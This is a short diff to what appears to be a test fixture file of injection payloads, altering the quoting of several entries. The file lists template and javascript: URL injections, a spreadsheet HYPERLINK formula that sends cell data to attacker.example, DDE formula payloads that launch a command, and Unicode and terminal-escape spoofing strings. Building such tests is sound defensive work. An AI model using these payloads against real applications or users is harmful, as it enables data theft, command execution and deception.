@@ -13,9 +13,9 @@ export const payloads = {
   template: { sent: '{{constructor.constructor("window.taken=1")()}}${window.taken=1}' },
   link: { sent: 'javascript:window.taken=1' },
   equals: { sent: '=HYPERLINK("https://attacker.example/?"&A1;"Klicka")' },
-  plus: { sent: '+cmd|\' /C calc\'!A0' },
-  minus: { sent: '-2+3+cmd|\' /C calc\'!A0' },
-  at: { sent: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
+  plus: { sent: "+cmd|' /C calc'!A0" },
+  minus: { sent: "-2+3+cmd|' /C calc'!A0" },
+  at: { sent: "@SUM(1+1)*cmd|' /C calc'!A0" },
   direction: { sent: '\u202Efdp.exe', shown: '[U+202E]fdp.exe' },
   isolate: { sent: '\u2067\u200Babc', shown: '[U+2067][U+200B]abc' },
   terminal: { sent: '\u001B[31mröd\u001B]0;titel\u0007', shown: '[U+001B][31mröd[U+001B]]0;titel[U+0007]' }
